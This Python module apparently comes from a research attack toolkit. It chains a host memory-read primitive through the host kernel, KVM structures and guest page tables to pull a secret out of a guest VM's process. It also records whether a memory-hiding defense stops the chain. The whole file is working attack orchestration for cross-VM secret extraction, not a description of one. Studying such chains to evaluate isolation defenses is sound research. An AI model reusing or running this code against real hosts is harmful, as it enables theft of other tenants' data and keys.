"""The chain: from nothing to a secret in a guest's process, step by step, until it has it or a step is not mapped.

"Ends" is said only of a guest page whose place in the host is known and to which no mapping of the kernel's leads: the
whole kernel half of the page tables was walked, through the primitive. Whatever else goes wrong loses the trail, and
that is "unknown".
"""

import time
from contextlib import suppress

from offmap.attack.fallbacks import ALIASES, Fallbacks
from offmap.attack.guest import Guest
from offmap.attack.host import Host
from offmap.attack.knowledge import Kernel
from offmap.attack.linux import Lost, Process
from offmap.attack.primitive import Primitive
from offmap.attack.result import SHORTEST_RUN, Attempt, Outcome, Sweep
from offmap.attack.stages import Ended, Stages
from offmap.attack.sweep import Pieces, Planner, plan_sweep, sweep
from offmap.attack.target import Target
from offmap.attack.vm import GuestMemory, Hidden, find_vm, read_slots

_SWEEP = "all that the host kernel maps"


class Chain:
    """One attack on one VM.

    Args:
        primitive: what reads the host.
        host_kernel, guest_kernel: what is known of them.
        pid: of the VMM.
        target: what it is after.
        base: where the host's kernel image is, if that is known; else it is searched for.
        control: the guest's RAM is plain. After the secret, what says that a chain ends is tried on it: it must find
            every page mapped here.
        pieces: the secret, to sweep all that is mapped for it; None: no sweep.
        planner: says what a sweep reads.
    """

    def __init__(
        self,
        primitive: Primitive,
        host_kernel: Kernel,
        guest_kernel: Kernel,
        pid: int,
        target: Target,
        base: int | None = None,
        control: bool = False,
        pieces: Pieces | None = None,
        planner: Planner = plan_sweep,
    ) -> None:
        self._primitive, self._pid, self._target, self._base = primitive, pid, target, base
        self._host, self._guest_kernel, self._control = Host(primitive, host_kernel), guest_kernel, control
        self._stages = Stages(primitive)
        self._fallbacks: Fallbacks | None = None
        self._vmm: Process | None = None
        self._kvm = self._image = 0
        self._memory: GuestMemory | None = None
        self._pieces, self._planner = pieces, planner

    def run(self) -> Attempt:
        """Go as far as it goes."""
        before, began = self._primitive.counts.copy(), time.monotonic()
        ended: Ended
        try:
            self._to_the_guest()
            ended = self._through_the_guest()
        except Ended as error:
            ended = error
        used, seconds = self._primitive.counts.since(before), time.monotonic() - began
        if self._control and ended.outcome is Outcome.RECOVERED:
            try:
                self._try_what_ends()
            except Ended as error:
                ended = error
        swept = None
        if self._pieces is not None and self._host.direct_map:
            try:
                swept = self._sweep(self._pieces)
                ended = _with_sweep(ended, swept)
            except Ended as error:
                ended = error if ended.outcome is Outcome.ENDS else ended
        if ended.outcome is Outcome.ENDS:
            try:
                self._again()
            except Ended as error:
                ended = error
        guest, mapped, missing = self._fallbacks.count if self._fallbacks else (None, None, None)
        return Attempt(
            pid=self._pid,
            target=self._target.name,
            outcome=ended.outcome,
            stage=ended.stage,
            reason=ended.reason,
            stages=tuple(self._stages.made),
            reads=used.reads,
            bytes=used.bytes,
            failures=used.failures,
            seconds=round(seconds, 3),
            guest_pages=guest,
            mapped_pages=mapped,
            missing_pages=missing,
            user_pages=len(self._memory.by_user) if self._memory else 0,
            sweep=swept,
            residues=self._fallbacks.residues() if self._fallbacks else (),
        )

    def _to_the_guest(self) -> None:
        host = self._host
        with self._stages.step("host: kernel") as stage:
            base = host.find_image(self._base)
            stage.found = f"at {base:#x}, {'searched for' if self._base is None else 'given'}"
        with self._stages.step("host: direct map") as stage:
            host.find_direct_map()
            stage.found = f"from {host.direct_map:#x}, {host.levels} levels of page tables"
        with self._stages.step("host: process of the VMM") as stage:
            self._vmm = host.process(self._pid)
            if not self._vmm.memory:
                raise Lost(f"process {self._pid} has no address space")
            stage.found = f"{self._vmm.name} ({self._pid})"
        with self._stages.step("host: VM") as stage:
            self._kvm, others = find_vm(host, self._vmm)
            stage.found = f"struct kvm at {self._kvm:#x}; other VMs on this host: {others}"
        with self._stages.step("host: memory slots") as stage:
            slots = read_slots(host, self._kvm)
            stage.found = f"{len(slots)} slots, {sum(slot.bytes for slot in slots) >> 20} MiB"
        with self._stages.step("host: page tables of the VMM") as stage:
            memory = self._memory = GuestMemory(host, self._vmm, slots)
            stage.found = f"at host page {memory.table:#x}"
        self._fallbacks = Fallbacks(host, self._stages, self._vmm, self._kvm, memory, self._target)

    def _through_the_guest(self) -> Ended:
        tried = self._fallbacks
        assert tried is not None
        try:
            return self._follow()
        except Hidden as error:
            hidden, at = error, self._stages.last
        tried.check_place(hidden.gpa, hidden.pa)
        mapped = tried.find_aliases()
        if mapped:
            # Whatever mapping there is, the same chain may get through by it.
            with suppress(Hidden):
                return self._follow()
            if found := tried.search_mapped():
                return Ended(Outcome.RECOVERED, self._stages.last, found)
        if found := tried.search_kvm() or tried.search_vmm() or tried.search_page_cache():
            return Ended(Outcome.RECOVERED, self._stages.last, found)
        if tried.doubtful:
            reason = f"{tried.doubtful} pages of guest RAM are not in the VMM's page tables: who maps them is unknown"
            return Ended(Outcome.UNKNOWN, ALIASES, reason)
        if mapped:
            what = f"the {mapped} guest pages that are mapped do not have the secret"
        else:
            what = "the host kernel maps none of the guest's pages"
        return Ended(Outcome.ENDS, at, f"{hidden}; {what}")

    def _follow(self) -> Ended:
        """The chain within the guest. Raises Hidden: a page that it needs is not mapped."""
        assert self._memory is not None
        guest = Guest(self._memory, self._guest_kernel)
        with self._stages.step("guest: kernel") as stage:
            self._image = guest.find_image()
            stage.found = f"at guest page {self._image:#x}, moved by {guest.slide:#x}"
        with self._stages.step("guest: direct map") as stage:
            guest.find_direct_map()
            stage.found = f"from {guest.direct_map:#x}"
        with self._stages.step("guest: processes") as stage:
            stage.found = f"{sum(1 for _ in guest.processes())} processes"
        with self._stages.step("guest: secret") as stage:
            found = self._target.find(guest)
            if found is None:
                raise Lost("the secret is not where it should be")
            stage.found = found.where
        how = f"{found.bytes} bytes of {self._target.name}: {found.where}"
        if self._memory.by_user:
            pages = len(self._memory.by_user)
            how += f"; {pages} pages by the VMM's own mapping, which hiding RAM from the kernel does not take away"
        return Ended(Outcome.RECOVERED, "guest: secret", how)

    def _try_what_ends(self) -> None:
        """On plain RAM, every page must be found mapped, and what is missing must be called doubtful."""
        memory, tried = self._memory, self._fallbacks
        assert memory is not None and tried is not None
        tried.check_place(self._image, memory.place(self._image))
        mapped = tried.find_aliases()
        pages, _, missing = tried.count
        if mapped != pages or tried.doubtful != missing:
            reason = f"of the control's {pages} pages only {mapped} are found mapped, and its RAM is plain"
            raise Ended(Outcome.UNKNOWN, ALIASES, reason)
        tried.search_kvm()  # the VMM's own memory is read as the guest's pages were just now

    def _sweep(self, pieces: Pieces) -> Sweep:
        """Search all memory that is mapped for 16 bytes of the secret."""
        with self._stages.step(_SWEEP) as stage:
            mappings = self._fallbacks.mappings if self._fallbacks else None
            mappings = mappings or self._host.mappings()
            if mappings.unreadable:
                raise Lost(f"page tables of the host cannot be read: {mappings.unreadable[0].reason}")
            found = sweep(self._primitive, self._planner(mappings, self._primitive), pieces)
            # Only now: what is put together here must not be found by the sweep.
            if pieces.digest() != self._target.digest:
                raise Lost("the pieces that were swept for are not the secret that the attack is after")
            stage.found = f"{found.bytes_read >> 20} MiB searched: {_said(found)}"
        return found

    def _again(self) -> None:
        """What was found must be as it was: a VM that ended meanwhile has given its memory to others.

        Raises:
            Ended: it is not.
        """
        memory, vmm = self._memory, self._vmm
        assert memory is not None and vmm is not None
        with self._stages.step("host: the VM, looked at again") as stage:
            if self._host.process(self._pid) != vmm or self._host.top_table(vmm.memory) != memory.table:
                raise Lost("the VMM is another process now")
            if find_vm(self._host, vmm)[0] != self._kvm or read_slots(self._host, self._kvm) != memory.slots:
                raise Lost("the VM was changed meanwhile")
            stage.found = "it is as it was"


def _said(found: Sweep) -> str:
    """What a sweep found, in words."""
    words = f"{len(found.runs)} runs of the secret, the longest of {found.longest} bytes" if found.runs else ""
    words = words or f"no {SHORTEST_RUN} bytes of the secret stand in it"
    return f"{words}; {found.pages_unread} pages cannot be read" if found.pages_unread else words


def _with_sweep(ended: Ended, found: Sweep) -> Ended:
    """An end is one no more if a part of the secret is mapped, or what is mapped could not be read."""
    if ended.outcome is not Outcome.ENDS:
        return ended
    if found.runs:
        where = found.runs[0]
        what = f"{found.longest} of {found.secret_bytes} bytes of the secret stand at {where.va:#x} ({where.region})"
        return Ended(Outcome.RECOVERED, _SWEEP, what)
    if found.pages_unread:
        return Ended(Outcome.REACHED, _SWEEP, f"{found.pages_unread} mapped pages cannot be read by this primitive")
    return Ended(Outcome.ENDS, ended.stage, f"{ended.reason}; in all that it maps, {_said(found)}")
